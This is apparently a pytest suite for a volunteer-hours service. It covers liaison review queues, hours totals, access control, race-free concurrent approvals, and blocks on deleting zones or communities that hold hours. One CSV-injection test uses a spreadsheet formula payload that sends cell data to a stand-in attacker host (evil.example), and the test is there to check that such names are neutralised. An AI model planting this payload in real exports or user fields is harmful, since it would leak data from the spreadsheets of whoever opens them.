"""The liaison's review queue: the hours waiting for a decision in their zones, with the check-in and check-out."""
from __future__ import annotations

import csv
import io
from datetime import datetime, time, timedelta
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from gridsvc.models import CheckEvent, ServiceHours, Shift, Signup
from gridsvc.services import checks
from gridsvc.services.shifts import create_shift
from tests.api.volunteer_helpers import make_shift, north_of, volunteer_id, zone_center, zone_of
from tests.helpers import assert_problem, client_as, while_uncommitted


SHANGHAI = ZoneInfo("Asia/Shanghai")  # the demo community's time


@pytest.fixture()
def admin(login):
    return login("admin")


def check(client, shift_id, kind, point, key):
    answer = client.post(f"/api/v1/shifts/{shift_id}/{kind}", json={"lon": point[0], "lat": point[1], "accuracy_m": 10},
                         headers={"Idempotency-Key": key})
    assert answer.status_code == 201, answer.get_json()
    return answer.get_json()


def queue(client, **params) -> dict:
    answer = client.get("/api/v1/hours" + (f"?{urlencode(params)}" if params else ""))
    assert answer.status_code == 200, answer.get_json()
    return answer.get_json()


@pytest.fixture()
def worked(admin, login, session, clock):
    """Two stints waiting for review: in G01 a check-out 5 km away, in G02 a check-in never checked out."""
    g01, g02 = zone_of(session, "G01").id, zone_of(session, "G02").id
    at_g01, at_g02 = zone_center(admin, g01), zone_center(admin, g02)
    start = clock() + timedelta(minutes=10)
    shifts = {"G01": make_shift(admin, zone_id=g01, starts_at=start, hours=1),
              "G02": make_shift(admin, zone_id=g02, starts_at=start, hours=1, title="垃圾分类督导", activity="garbage_sorting")}
    one, two = login("volunteer-001"), login("volunteer-002")
    one.post(f"/api/v1/shifts/{shifts['G01']['id']}/signups", json={})
    two.post(f"/api/v1/shifts/{shifts['G02']['id']}/signups", json={})
    clock.advance(minutes=10)
    check(one, shifts["G01"]["id"], "check-in", at_g01, "one-in")
    check(two, shifts["G02"]["id"], "check-in", at_g02, "two-in")
    clock.advance(minutes=45)
    # 5 km north of G01's centre is outside the park: a check-out is accepted there, but not auto-approved
    out = check(one, shifts["G01"]["id"], "check-out", north_of(at_g01, 5000), "one-out")
    assert not out["inside"] and out["hours"]["status"] == "pending"
    clock.advance(hours=3)  # past G02's end and the grace period: closed at the shift's end
    return {"shifts": shifts, "start": start, "one": volunteer_id(session, "volunteer-001"),
            "two": volunteer_id(session, "volunteer-002"), "check_out_distance": out["distance_m"]}


def test_a_liaison_sees_what_waits_in_their_zones_with_the_evidence(worked, login, session):
    [entry] = queue(login("liaison-g01"))["items"]
    assert entry["shift_id"] == worked["shifts"]["G01"]["id"] and entry["zone_id"] == zone_of(session, "G01").id
    assert entry["volunteer_id"] == worked["one"] and entry["volunteer_name"]
    assert entry["status"] == "pending" and entry["hours"] == pytest.approx(0.75)  # 45 minutes
    assert entry["check_in"]["inside"] and entry["check_in"]["distance_m"] == 0
    assert entry["check_out"]["inside"] is False
    assert entry["check_out"]["distance_m"] == pytest.approx(worked["check_out_distance"])
    assert datetime.fromisoformat(entry["check_in"]["at"]) == worked["start"]

    [other] = queue(login("liaison-g02"))["items"]  # closed by reading the queue
    assert other["volunteer_id"] == worked["two"] and other["check_out"] is None
    assert other["flagged"] and other["flag_reason"] == "missing_check_out"
    assert other["hours"] == pytest.approx(1.0)  # from the check-in at the start to the shift's end
    assert [e["id"] for e in queue(login("liaison-g02"), flagged="true")["items"]] == [other["id"]]
    assert queue(login("liaison-g02"), flagged="false")["items"] == []

    day = worked["start"].astimezone(SHANGHAI).date().isoformat()  # from/to are days in the community's time
    everything = queue(login("admin"), **{"from": day, "to": day})
    assert {entry["id"], other["id"]} <= {e["id"] for e in everything["items"]}


def test_the_queue_empties_as_the_liaison_decides(worked, login):
    liaison = login("liaison-g01")
    [entry] = queue(liaison)["items"]
    results = liaison.post("/api/v1/hours/review", json={"ids": [entry["id"]], "action": "approve"}).get_json()["results"]
    assert results == [{"id": entry["id"], "status": 200, "hours_status": "approved"}]
    assert queue(liaison)["total"] == 0
    assert [e["id"] for e in queue(liaison, status="approved")["items"]] == [entry["id"]]


def test_who_may_read_the_queue(worked, login, session):
    assert_problem(login("liaison-g01").get(f"/api/v1/hours?zone_id={zone_of(session, 'G02').id}"), 403)
    assert_problem(login("volunteer-001").get("/api/v1/hours"), 403)
    assert_problem(login("admin").get("/api/v1/hours?status=maybe"), 422)
    assert_problem(login("admin").get("/api/v1/hours?from=2026-13-01"), 422)
    assert queue(login("admin"), zone_id=zone_of(session, "G01").id, volunteer_id=worked["two"])["total"] == 0


def totals(client, **params) -> dict:
    answer = client.get("/api/v1/hours/totals" + (f"?{urlencode(params)}" if params else ""))
    assert answer.status_code == 200, answer.get_json()
    return answer.get_json()


def by_volunteer(report: dict) -> list[tuple[int, float, int]]:
    return [(item["volunteer_id"], item["hours"], item["entries"]) for item in report["items"]]


def test_hours_totals_per_volunteer_count_what_was_approved_in_the_liaisons_zones(worked, admin, login, session, clock):
    one, two = worked["one"], worked["two"]
    g01_liaison = login("liaison-g01")
    assert totals(g01_liaison) == {"total": 0, "limit": 100, "offset": 0, "total_hours": 0, "items": []}
    waiting = totals(admin, status="pending")
    assert by_volunteer(waiting) == [(two, 1.0, 1), (one, 0.75, 1)] and waiting["total_hours"] == 1.75  # most first

    [entry] = queue(g01_liaison)["items"]
    g01_liaison.post(f"/api/v1/hours/{entry['id']}/approve", json={})
    # a second stint of volunteer-001 in G01 the next morning, inside the zone at both ends: approved at once
    next_morning = datetime.combine(clock().astimezone(SHANGHAI).date() + timedelta(days=1), time(10), SHANGHAI)
    clock.advance(seconds=(next_morning - clock()).total_seconds())
    shift = make_shift(admin, zone_id=zone_of(session, "G01").id, starts_at=clock() + timedelta(minutes=10), hours=1)
    volunteer = login("volunteer-001")
    volunteer.post(f"/api/v1/shifts/{shift['id']}/signups", json={})
    clock.advance(minutes=10)
    center = zone_center(admin, zone_of(session, "G01").id)
    check(volunteer, shift["id"], "check-in", center, "again-in")
    clock.advance(minutes=30)
    assert check(volunteer, shift["id"], "check-out", center, "again-out")["hours"]["status"] == "approved"

    report = totals(g01_liaison)
    assert by_volunteer(report) == [(one, 1.25, 2)] and report["total_hours"] == 1.25
    [item] = report["items"]
    assert item["volunteer_name"] and datetime.fromisoformat(item["last_served_at"]) == clock()
    assert totals(login("liaison-g02"))["items"] == []  # G02's entry still waits
    assert by_volunteer(totals(admin, zone_id=zone_of(session, "G02").id, status="pending")) == [(two, 1.0, 1)]
    tomorrow = (clock().astimezone(SHANGHAI) + timedelta(days=1)).date().isoformat()  # community time
    assert totals(admin, **{"from": tomorrow})["total"] == 0
    first_day = worked["start"].astimezone(SHANGHAI).date().isoformat()
    assert by_volunteer(totals(admin, **{"from": first_day, "to": first_day})) == [(one, 0.75, 1)]
    assert by_volunteer(totals(admin, limit=1, offset=0)) == [(one, 1.25, 2)]
    beyond = totals(admin, offset=10)  # past the last page: no items, the same totals
    assert beyond["items"] == [] and beyond["total"] == 1 and beyond["total_hours"] == 1.25


def test_who_may_read_hours_totals(worked, login, session):
    assert_problem(login("liaison-g01").get(f"/api/v1/hours/totals?zone_id={zone_of(session, 'G02').id}"), 403)
    assert_problem(login("volunteer-001").get("/api/v1/hours/totals"), 403)
    assert_problem(login("admin").get("/api/v1/hours/totals?status=all"), 422)
    assert_problem(login("admin").get("/api/v1/hours/totals?from=2026-12-02&to=2026-12-01"), 422)


def test_two_reviewers_with_crossing_lists_do_not_deadlock(committed_app, engine, clock):
    """A liaison approves [second, first] while an admin, one entry at a time, declines first, then second.
    Entries are locked in id order whatever the list's order, so the liaison waits for the admin rather than
    holding `second` against them: no deadlock, and every entry is decided once."""
    entries, shift_id = _two_pending_entries(engine, clock)
    first, second = entries
    liaison = client_as(committed_app, "liaison-g01")

    def decline(own, hours_id):
        checks.review(own, hours_id, approve=False, note="离开了岗位", reviewer_id=None, now=clock())

    try:
        answer = while_uncommitted(engine, lambda own: decline(own, first),
                                   lambda: liaison.post("/api/v1/hours/review", json={"ids": [second, first], "action": "approve"}),
                                   then=lambda own: decline(own, second))
        assert answer.status_code == 200, answer.get_json()
        assert [(r["id"], r["status"]) for r in answer.get_json()["results"]] == [(second, 409), (first, 409)]
        with engine.connect() as conn:
            assert conn.execute(select(ServiceHours.status).where(ServiceHours.id.in_(entries))).scalars().all() == [
                "declined", "declined"]
    finally:
        with engine.begin() as conn:
            conn.execute(Shift.__table__.delete().where(Shift.id == shift_id))


def test_approving_what_another_reviewer_is_declining_finds_it_declined(committed_app, engine, clock):
    """The decision is made under the entry's lock on the entry as it is then, not as the view first read it."""
    (entry, _), shift_id = _two_pending_entries(engine, clock)
    liaison = client_as(committed_app, "liaison-g01")
    try:
        answer = while_uncommitted(
            engine, lambda own: checks.review(own, entry, approve=False, note="离开了岗位", reviewer_id=None, now=clock()),
            lambda: liaison.post(f"/api/v1/hours/{entry}/approve", json={}))
        assert assert_problem(answer, 409)["status_now"] == "declined"
        with engine.connect() as conn:
            assert conn.execute(select(ServiceHours.status).where(ServiceHours.id == entry)).scalar() == "declined"
    finally:
        with engine.begin() as conn:
            conn.execute(Shift.__table__.delete().where(Shift.id == shift_id))


def _two_pending_entries(engine, clock) -> tuple[list[int], int]:
    """Two pending hours entries in G01 (committed): a past shift that volunteer-001 and -002 worked."""
    with Session(engine) as session:
        zone_id = zone_of(session, "G01").id
        shift = create_shift(session, zone_id=zone_id, title="review race", activity="traffic_guidance", capacity=3,
                             starts_at=clock() - timedelta(hours=3), ends_at=clock() - timedelta(hours=2))
        ids = []
        for username in ("volunteer-001", "volunteer-002"):
            volunteer = volunteer_id(session, username)
            check_in = CheckEvent(shift_id=shift.id, volunteer_id=volunteer, kind="check_in", effective_at=shift.starts_at,
                                  position="SRID=4326;POINT(121.78 29.87)", input_lon=121.78, input_lat=29.87,
                                  input_crs="wgs84", inside=False, distance_m=900, accepted=True, status_code=201,
                                  response={})
            session.add(check_in)
            session.flush()
            hours = ServiceHours(volunteer_id=volunteer, shift_id=shift.id, check_in_id=check_in.id,
                                 started_at=shift.starts_at, ended_at=shift.ends_at, hours=1, status="pending")
            session.add(hours)
            session.flush()
            ids.append(hours.id)
        session.commit()
        return sorted(ids), shift.id


# ------------------------------------------------------------------ found in review (each failed before its fix)


def _hours_in(session, username: str, zone_code: str, day: int, *, status: str) -> ServiceHours:
    """An hours entry of ``username`` for a 07:30-09:00 shift in ``zone_code`` on 2 + ``day`` March 2026."""
    starts = datetime(2026, 3, 2 + day, 7, 30, tzinfo=SHANGHAI)
    ends = starts + timedelta(hours=1.5)
    shift = create_shift(session, zone_id=zone_of(session, zone_code).id, title="北门交通疏导", activity="traffic_guidance",
                         capacity=3, starts_at=starts, ends_at=ends)
    vid = volunteer_id(session, username)
    check_in = CheckEvent(shift_id=shift.id, volunteer_id=vid, kind="check_in", effective_at=starts,
                          position="SRID=4326;POINT(121.78 29.87)", input_lon=121.78, input_lat=29.87, input_crs="wgs84",
                          inside=True, distance_m=0, accepted=True, status_code=201, response={})
    session.add(check_in)
    session.flush()
    entry = ServiceHours(volunteer_id=vid, shift_id=shift.id, check_in_id=check_in.id, started_at=starts, ended_at=ends,
                         hours=1.5, status=status)
    session.add(entry)
    session.flush()
    return entry


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86-1+1", "-2+3", "@SUM(1,1)"])
def test_the_hours_csv_writes_a_formula_looking_name_as_text(login, session, name):
    """A volunteer chooses their own real_name; a liaison opens the CSV in Excel, where a cell starting with
    = + - @ would run as a formula (CSV injection). It is written as text: a leading apostrophe."""
    vid = volunteer_id(session, "volunteer-001")
    assert login("volunteer-001").patch(f"/api/v1/volunteers/{vid}", json={"real_name": name}).status_code == 200
    _hours_in(session, "volunteer-001", "G01", 0, status="approved")
    answer = login("liaison-g01").get(f"/api/v1/volunteers/{vid}/hours.csv")
    assert answer.status_code == 200 and answer.headers["Cache-Control"] == "private, no-store"
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][0] == "'" + name and rows[1][6] == "1.50"


def test_a_zone_with_hours_worked_in_it_cannot_be_deleted(login, session):
    """Deleting a zone took its shifts, and with them the volunteers' approved and declined hours, by cascade."""
    vid = volunteer_id(session, "volunteer-001")
    _hours_in(session, "volunteer-001", "G09", 0, status="approved")
    _hours_in(session, "volunteer-001", "G09", 1, status="declined")
    problem = assert_problem(login("planner").delete(f"/api/v1/zones/{zone_of(session, 'G09').id}"), 409)
    assert problem["shifts"] >= 2 and problem["service_requests"] >= 0
    report = login("volunteer-001").get(f"/api/v1/volunteers/{vid}/hours?from=2026-03-01&to=2026-03-31").get_json()
    assert (report["approved"], report["declined"], len(report["entries"])) == (1.5, 1.5, 2)


def test_a_community_with_hours_worked_in_it_cannot_be_deleted_even_by_cascade(login, session):
    """cascade=true took the zones, and with them the shifts and the volunteers' approved and declined hours."""
    vid = volunteer_id(session, "volunteer-001")
    _hours_in(session, "volunteer-001", "G09", 0, status="approved")
    _hours_in(session, "volunteer-001", "G09", 1, status="declined")
    community_id = zone_of(session, "G09").community_id
    problem = assert_problem(login("admin").delete(f"/api/v1/communities/{community_id}?cascade=true"), 409,
                             "has-dependents")
    assert problem["shifts"] >= 2 and "hours" in problem["detail"]
    report = login("volunteer-001").get(f"/api/v1/volunteers/{vid}/hours?from=2026-03-01&to=2026-03-31").get_json()
    assert (report["approved"], report["declined"], len(report["entries"])) == (1.5, 1.5, 2)
    assert login("admin").get(f"/api/v1/communities/{community_id}/zones").status_code == 200


def test_nobody_reviews_their_own_hours(login, session):
    """A liaison may volunteer too; "verified" hours are verified by someone else."""
    liaison = login("liaison-g01")
    assert liaison.post("/api/v1/volunteers", json={"real_name": "网格员", "phone": "13900001111"}).status_code == 201
    entry = _hours_in(session, "liaison-g01", "G01", 0, status="pending")
    assert_problem(liaison.post(f"/api/v1/hours/{entry.id}/approve", json={}), 403)
    [result] = liaison.post("/api/v1/hours/review", json={"ids": [entry.id], "action": "approve"}).get_json()["results"]
    assert result["status"] == 403
    session.expire_all()
    assert session.get(ServiceHours, entry.id).status == "pending"
    assert login("admin").post(f"/api/v1/hours/{entry.id}/approve", json={}).get_json()["status"] == "approved"


def test_hours_waiting_in_a_zone_keep_the_volunteer_visible_to_its_liaison(admin, login, session, clock):
    """volunteer-001 (home G01) works a G02 shift and checks out 5 km away: pending, in G02's queue. Withdrawing
    that sign-up is refused now, and even with it gone (as it could be before) G02's liaison, who must decide,
    may read the volunteer's hours: access follows the zones with the volunteer's hours too."""
    g02 = zone_of(session, "G02").id
    at_g02 = zone_center(admin, g02)
    shift = make_shift(admin, zone_id=g02, starts_at=clock() + timedelta(minutes=10), hours=2)
    me, vid = login("volunteer-001"), volunteer_id(session, "volunteer-001")
    assert me.post(f"/api/v1/shifts/{shift['id']}/signups", json={}).status_code == 201
    clock.advance(minutes=10)
    check(me, shift["id"], "check-in", at_g02, "g02-in")
    clock.advance(minutes=30)
    check(me, shift["id"], "check-out", north_of(at_g02, 5000), "g02-out")
    withdrawn = assert_problem(me.delete(f"/api/v1/shifts/{shift['id']}/signups/{vid}"), 409)
    assert withdrawn["reason"] == "checked_in"
    session.execute(Signup.__table__.update().where(Signup.shift_id == shift["id"]).values(status="cancelled"))
    session.flush()
    liaison = login("liaison-g02")
    assert [e["volunteer_id"] for e in queue(liaison)["items"]] == [vid]
    answer = liaison.get(f"/api/v1/volunteers/{vid}/hours")
    assert answer.status_code == 200 and answer.get_json()["pending"] == 0.5
